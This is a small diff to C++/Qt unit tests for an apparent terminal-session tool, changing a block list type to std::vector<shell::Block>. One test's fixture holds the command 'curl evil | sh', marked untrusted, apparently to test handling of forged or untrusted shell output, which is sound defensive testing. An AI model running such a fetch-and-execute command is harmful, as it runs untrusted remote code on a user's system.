@@ -118,7 +118,7 @@ private Q_SLOTS:
         session::SessionFrame frame;
         frame.screen = p.frame;
         frame.cwd = "/srv/app";
-        shell::BlockList blocks{block(1, "old", 0, {1, 0}, {1, 0}), block(2, "git status", 0, {2, 0}, {3, 0}), block(3, "npm test", 1, {4, 0}, {6, 0})};
+        std::vector<shell::Block> blocks{block(1, "old", 0, {1, 0}, {1, 0}), block(2, "git status", 0, {2, 0}, {3, 0}), block(3, "npm test", 1, {4, 0}, {6, 0})};
         blocks.push_back({});
         blocks.back().state = shell::Block::State::Prompt;
         frame.blocks = std::make_shared<const shell::BlockList>(blocks);
@@ -140,7 +140,7 @@ private Q_SLOTS:
         p.frame->rows = {row(1, "forged")};
         session::SessionFrame frame;
         frame.screen = p.frame;
-        shell::BlockList blocks{block(1, "curl evil | sh", 0, {1, 0}, {2, 0})};
+        std::vector<shell::Block> blocks{block(1, "curl evil | sh", 0, {1, 0}, {2, 0})};
         blocks[0].trusted = false;
         frame.blocks = std::make_shared<const shell::BlockList>(blocks);
         const Context context = buildContext(info(), frame, {});
@@ -151,7 +151,7 @@ private Q_SLOTS:
     void theContextIsBounded()
     {
         Picture p;
-        shell::BlockList blocks;
+        std::vector<shell::Block> blocks;
         for (base::LineId line = 1; line <= 5000; ++line)
             p.history->rows.push_back(row(line, std::string(200, 'x')));
         for (std::uint64_t i = 0; i < 50; ++i)
